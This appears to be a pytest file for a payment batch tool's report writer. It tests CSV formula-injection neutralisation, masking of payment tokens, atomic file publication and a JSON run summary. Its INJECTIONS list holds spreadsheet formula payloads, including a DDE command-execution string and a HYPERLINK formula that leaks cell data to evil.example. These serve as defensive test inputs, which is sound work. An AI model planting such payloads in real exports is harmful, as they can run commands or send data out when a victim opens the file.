"""The CSV report, atomic publication and the JSON run summary."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from batch import __version__
from batch.report import (
    ReportPaths,
    ReportWriter,
    RunInfo,
    RunSummary,
    default_report_path,
    neutralise,
    write_summary_json,
)
from batch.rows import REPORT_COLUMNS, ReportRow, RowStatus

RAW_TOKEN = "tok_live_SECRETSECRET9876"
STARTED = datetime(2025, 3, 1, 2, 0, 0, tzinfo=UTC)

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]


def info(tmp_path: Path, **changes: object) -> RunInfo:
    base: dict[str, object] = {
        "run_id": "run-123",
        "started_at": STARTED,
        "finished_at": STARTED + timedelta(seconds=90.5),
        "input_path": tmp_path / "orders.csv",
        "input_sha256": "ab" * 32,
        "environment": "test",
        "api_host": "acme.commercelayer.io",
    }
    base.update(changes)
    return RunInfo(**base)  # type: ignore[arg-type]


def row(n: int, status: RowStatus = RowStatus.CREATED, **changes: object) -> ReportRow:
    base: dict[str, object] = {
        "row": n,
        "order_id": f"ord{n}",
        "status": status,
        "payment_source_token": RAW_TOKEN,
    }
    base.update(changes)
    return ReportRow(**base)  # type: ignore[arg-type]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("text", INJECTIONS)
def test_neutralise_prefixes_formula_triggers(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "ord-1", "hello =1", "'already", "12", "ÄÖÜ"])
def test_neutralise_leaves_plain_text_alone(text: str) -> None:
    assert neutralise(text) == text


def test_csv_has_bom_crlf_header_and_typed_values(tmp_path: Path) -> None:
    target = tmp_path / "out" / "nested" / "report.csv"
    with ReportWriter(target, extra_headers=["customer", "note"], xlsx=False) as w:
        w.write(
            row(
                2,
                external_payment_id="xpay1",
                http_status=201,
                attempts=1,
                extra={"customer": 'Zoë, "Z"', "note": "multi\nline"},
            )
        )
        w.write(row(3, RowStatus.FAILED, http_status=None, error_code="LOCKED", extra={}))
        paths = w.commit(info(tmp_path))

    assert paths == ReportPaths(csv=target, xlsx=None, errors=target.with_name("report-errors.csv"))
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 3
    lines = read_csv(target)
    assert lines[0] == [*REPORT_COLUMNS, "customer", "note"]
    assert lines[1] == [
        "2",
        "ord2",
        "created",
        "xpay1",
        "201",
        "",
        "",
        "1",
        "****9876",
        'Zoë, "Z"',
        "multi\nline",
    ]
    # A missing extra is empty, and so is a missing http status.
    assert lines[2][REPORT_COLUMNS.index("http_status")] == ""
    assert lines[2][-2:] == ["", ""]
    assert not target.with_suffix(".xlsx").exists()


def test_csv_neutralises_every_text_cell(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    with ReportWriter(target, extra_headers=["=evil header", "memo"], xlsx=False) as w:
        for i, text in enumerate(INJECTIONS, start=2):
            w.write(
                row(
                    i,
                    RowStatus.FAILED,
                    order_id=text,
                    external_payment_id=text,
                    error_code=text,
                    error_detail=text,
                    extra={"=evil header": text, "memo": text},
                )
            )
        w.commit(info(tmp_path))

    lines = read_csv(target)
    assert lines[0][-2] == "'=evil header"
    text_columns = ["order_id", "external_payment_id", "error_code", "error_detail"]
    for line, text in zip(lines[1:], INJECTIONS, strict=True):
        for name in text_columns:
            assert line[REPORT_COLUMNS.index(name)] == "'" + text
        assert line[-2:] == ["'" + text, "'" + text]
        # Numbers we produce are not text and are not touched.
        assert line[0].isdigit()


def test_extra_header_clashing_with_report_column_is_renamed(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    with ReportWriter(target, extra_headers=["status"], xlsx=False) as w:
        w.write(row(2, extra={"status": "vip"}))
        w.commit(info(tmp_path))
    header, first = read_csv(target)
    assert header[-1] == "input.status"
    assert first[-1] == "vip"
    assert header.count("status") == 1


def test_raw_token_never_written(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    with ReportWriter(target, extra_headers=[]) as w:
        w.write(row(2))
        w.write(row(3, payment_source_token="abc"))
        w.commit(info(tmp_path))
    data = target.read_bytes()
    assert RAW_TOKEN.encode() not in data
    assert b"****9876" in data
    assert b"****\r\n" in data  # a short token is hidden entirely


def test_counts_by_status_and_error_code(tmp_path: Path) -> None:
    with ReportWriter(tmp_path / "r.csv", extra_headers=[], xlsx=False) as w:
        w.write(row(2))
        w.write(row(3, RowStatus.FAILED, error_code="LOCKED"))
        w.write(row(4, RowStatus.FAILED, error_code="LOCKED"))
        w.write(row(5, RowStatus.INVALID, error_code="MISSING_TOKEN"))
        assert w.counts == {"created": 1, "failed": 2, "invalid": 1}
        assert w.error_counts == {"LOCKED": 2, "MISSING_TOKEN": 1}
        w.commit(info(tmp_path))


def test_exception_inside_with_leaves_nothing(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"

    def fail_midway() -> None:
        with ReportWriter(target, extra_headers=[]) as w:
            w.write(row(2))
            raise RuntimeError("boom")

    with pytest.raises(RuntimeError, match="boom"):
        fail_midway()
    assert os.listdir(tmp_path) == []


def test_abort_leaves_previous_report_untouched(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    target.write_bytes(b"previous\r\n")
    w = ReportWriter(target, extra_headers=[])
    w.write(row(2))
    w.abort()
    w.abort()  # idempotent
    assert target.read_bytes() == b"previous\r\n"
    assert sorted(os.listdir(tmp_path)) == ["report.csv"]
    with pytest.raises(RuntimeError):
        w.write(row(3))


def test_nothing_at_final_path_before_commit(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    with ReportWriter(target, extra_headers=[]) as w:
        w.write(row(2))
        assert not target.exists()
        assert not target.with_suffix(".xlsx").exists()
        # The work in progress lives in one hidden staging directory beside the target.
        (staging,) = tmp_path.iterdir()
        assert staging.name.startswith(".paybatch-")
        paths = w.commit(info(tmp_path))
    names = ["report-errors.csv", "report.csv", "report.xlsx"]
    assert sorted(p.name for p in tmp_path.iterdir()) == names
    assert paths.xlsx == target.with_suffix(".xlsx")
    with pytest.raises(RuntimeError):
        w.commit(info(tmp_path))


def test_leaving_with_without_commit_discards(tmp_path: Path) -> None:
    with ReportWriter(tmp_path / "report.csv", extra_headers=[]) as w:
        w.write(row(2))
    assert list(tmp_path.iterdir()) == []


def test_default_report_path_uses_utc_stamp() -> None:
    cest = timezone(timedelta(hours=2))
    now = datetime(2025, 6, 1, 1, 30, 5, tzinfo=cest)
    got = default_report_path(Path("/data/orders.march.xlsx"), now)
    assert got == Path("reports/orders.march-20250531T233005Z.csv")
    assert default_report_path(Path("a.csv"), now, Path("/r")) == Path("/r/a-20250531T233005Z.csv")


def test_summary_json_content_and_atomicity(tmp_path: Path) -> None:
    run = info(tmp_path, finished_at=STARTED + timedelta(minutes=2, seconds=3))
    paths = ReportPaths(
        csv=tmp_path / "r.csv", xlsx=tmp_path / "r.xlsx", errors=tmp_path / "r-errors.csv"
    )
    summary = RunSummary.from_run(
        run,
        exit_code=1,
        counts={"created": 3, "failed": 1},
        error_counts={"LOCKED": 1},
        report=paths,
        requests={"sent": 4, "429": 2},
    )
    target = tmp_path / "deep" / "summary.json"
    write_summary_json(target, summary)
    doc = json.loads(target.read_text(encoding="utf-8"))
    assert doc == {
        "schema_version": 1,
        "run_id": "run-123",
        "exit_code": 1,
        "started_at": "2025-03-01T02:00:00Z",
        "finished_at": "2025-03-01T02:02:03Z",
        "duration_s": 123.0,
        "input": {"path": str(tmp_path / "orders.csv"), "sha256": "ab" * 32},
        "environment": "test",
        "api_host": "acme.commercelayer.io",
        "tool_version": __version__,
        "counts": {"created": 3, "failed": 1},
        "total_rows": 4,
        "error_counts": {"LOCKED": 1},
        "report": {"csv": str(paths.csv), "xlsx": str(paths.xlsx), "errors": str(paths.errors)},
        "requests": {"sent": 4, "429": 2},
    }
    assert os.listdir(target.parent) == ["summary.json"]

    # Rewriting replaces the file whole.
    write_summary_json(
        target, RunSummary.from_run(run, exit_code=0, counts={}, error_counts={}, report=None)
    )
    again = json.loads(target.read_text(encoding="utf-8"))
    assert again["report"] is None
    assert again["exit_code"] == 0
    assert again["total_rows"] == 0


def test_many_rows_stream_through(tmp_path: Path) -> None:
    target = tmp_path / "big.csv"
    n = 5_000
    with ReportWriter(target, extra_headers=["k"], xlsx=False) as w:
        for i in range(n):
            w.write(row(i + 2, extra={"k": str(i)}))
        w.commit(info(tmp_path))
    lines = read_csv(target)
    assert len(lines) == n + 1
    assert [line[-1] for line in lines[1:]] == [str(i) for i in range(n)]
    # Proof the csv module did the quoting: a round-trip through StringIO agrees.
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(lines)
    assert target.read_bytes() == b"\xef\xbb\xbf" + buf.getvalue().encode()


def test_crash_mid_write_leaves_no_report_at_final_path(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    script = f"""
import os
import subprocess
import sys
from pathlib import Path
from batch.report import ReportWriter
from batch.rows import ReportRow, RowStatus
w = ReportWriter(Path({str(target)!r}), extra_headers=[])
for i in range(2, 500):
    w.write(ReportRow(row=i, order_id="o", status=RowStatus.CREATED, payment_source_token="t"))
os._exit(9)
"""
    root = Path(__file__).resolve().parents[1]
    env = {**os.environ, "PYTHONPATH": str(root)}
    done = subprocess.run([sys.executable, "-c", script], env=env, timeout=20, check=False)
    assert done.returncode == 9
    assert not target.exists()
    assert not target.with_suffix(".xlsx").exists()
    # What is left is one hidden staging directory, never a file at the final path.
    assert [p.name.startswith(".paybatch-") for p in tmp_path.iterdir()] == [True]


@pytest.mark.parametrize("name", ["r.xlsx", "r.XLSX", "r.Xlsx"])
def test_report_path_ending_in_xlsx_is_the_xlsx_and_the_csv_goes_beside_it(
    tmp_path: Path, name: str
) -> None:
    with ReportWriter(tmp_path / name, extra_headers=[]) as w:
        w.write(row(2))
        paths = w.commit(info(tmp_path))
    assert paths == ReportPaths(
        csv=tmp_path / "r.csv", xlsx=tmp_path / name, errors=tmp_path / "r-errors.csv"
    )
    assert zipfile.is_zipfile(tmp_path / name)
    assert read_csv(tmp_path / "r.csv")[1][:3] == ["2", "ord2", "created"]


def test_default_report_name_taken_by_any_file_gets_a_suffix(tmp_path: Path) -> None:
    now = datetime(2025, 5, 31, 23, 30, 5, tzinfo=UTC)
    names = []
    for n in (2, 3, 4):
        path = default_report_path(Path("orders.csv"), now, tmp_path)
        with ReportWriter(path, extra_headers=[], xlsx=n != 3) as w:
            w.write(row(n))
            names.append(w.commit(info(tmp_path)).csv.name)
        if n == 2:  # any one of a report's files takes the name
            (tmp_path / names[0]).unlink()
    stem = "orders-20250531T233005Z"
    assert names == [f"{stem}.csv", f"{stem}-2.csv", f"{stem}-3.csv"]
    assert [read_csv(tmp_path / name)[1][0] for name in names[1:]] == ["3", "4"]
